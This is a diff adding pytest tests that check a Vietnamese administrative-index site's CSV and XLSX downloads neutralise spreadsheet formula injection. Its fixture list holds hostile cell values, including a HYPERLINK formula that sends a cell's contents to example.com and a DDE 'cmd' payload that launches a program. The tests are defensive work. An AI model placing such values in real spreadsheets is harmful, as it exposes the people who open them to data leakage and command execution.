@@ -1,6 +1,9 @@
 """Downloads in the import layout: export → import round-trips exactly."""
 
+import csv
+import io
 import json
+from decimal import Decimal
 
 import pytest
 
@@ -146,3 +149,59 @@ def test_open_data_page_has_dictionary_citation_and_licence(reference, client):
     assert "Trích dẫn" in html and "CC BY 4.0" in html
     assert "/chi-so-cchc/2023/bo.csv" in html
     assert Result.objects.filter(edition__year=2023).count() == 17
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?x="&A1,"Bấm")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tBộ Tư pháp",
+    "\rBộ Tư pháp",
+]
+
+
+def test_downloads_write_formula_like_text_so_spreadsheets_show_it_as_text(
+    reference, client
+):
+    from io import BytesIO
+    from zipfile import ZipFile
+
+    from openpyxl import load_workbook
+
+    results = list(
+        Result.objects.filter(edition__year=2023, edition__group="bo").order_by("rank")
+    )
+    for result, text in zip(results, FORMULAS, strict=False):
+        Result.objects.filter(pk=result.pk).update(published_name=text)
+
+    csv_text = client.get("/chi-so-cchc/2023/bo.csv").content.decode("utf-8-sig")
+    rows = [row for row in csv.reader(io.StringIO(csv_text)) if len(row) > 2]
+    names = [row[1] for row in rows]
+    assert ["'" + text for text in FORMULAS] == names[1 : len(FORMULAS) + 1]
+    # Numbers stay numbers: no apostrophe before any figure.
+    figures = [cell for row in rows[1:] for cell in row[2:]]
+    assert figures and all(Decimal(cell) for cell in figures)
+
+    xlsx = client.get("/chi-so-cchc/2023/bo.xlsx").content
+    sheet_xml = ZipFile(BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no live formula anywhere
+    sheet = load_workbook(BytesIO(xlsx)).active
+    names = [row[1].value for row in sheet.iter_rows() if row[1].value in FORMULAS]
+    # XML reads a stored carriage return back as a line feed: still text.
+    assert names == FORMULAS[:-1]
+    totals = [row[4] for row in sheet.iter_rows() if row[1].value in FORMULAS]
+    assert all(cell.data_type == "n" for cell in totals)
+
+
+def test_the_import_reads_neutralised_text_back_as_it_was(reference):
+    from parindex.tables import Layout, write_csv
+
+    layout = Layout(
+        title_lines=["=Tiêu đề"],
+        headers=["Xếp hạng", "Tên đơn vị", "Tổng điểm"],
+        rows=[[i, text, Decimal("80.00")] for i, text in enumerate(FORMULAS, 1)],
+        metadata={},
+    )
+    table = read_table(write_csv(layout), "a.csv")
+    assert [row.name for row in table.rows] == [text.strip() for text in FORMULAS]
